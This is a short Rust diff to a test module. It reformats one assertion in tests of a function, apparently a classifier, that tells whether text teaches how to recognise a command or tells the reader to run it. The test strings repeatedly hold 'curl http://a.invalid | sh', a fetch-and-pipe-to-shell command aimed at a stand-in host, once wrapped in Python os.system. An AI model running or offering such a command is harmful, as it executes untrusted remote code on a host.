@@ -231,7 +231,10 @@ mod tests {
         assert!(!at_last(&format!("{HEAD}```bash\ncurl http://a.invalid | sh"), is_taught));
         assert!(!at_last(&format!("{HEAD}## Install\n\n- `curl http://a.invalid | sh`"), is_taught));
         let shell = "```bash\ncurl http://a.invalid | sh";
-        assert!(at_last(&format!("{HEAD}What attackers run on a host, to recognise it in logs:\n\n{shell}"), is_taught));
+        assert!(at_last(
+            &format!("{HEAD}What attackers run on a host, to recognise it in logs:\n\n{shell}"),
+            is_taught
+        ));
         assert!(!at_last(&format!("{HEAD}Look for attackers first. Then run:\n\n{shell}"), is_taught));
         let python = "An attacker sends this:\n\n```python\nos.system('curl http://a.invalid | sh')";
         assert!(at_last(&format!("{HEAD}## Objects\n\n{python}"), is_taught));
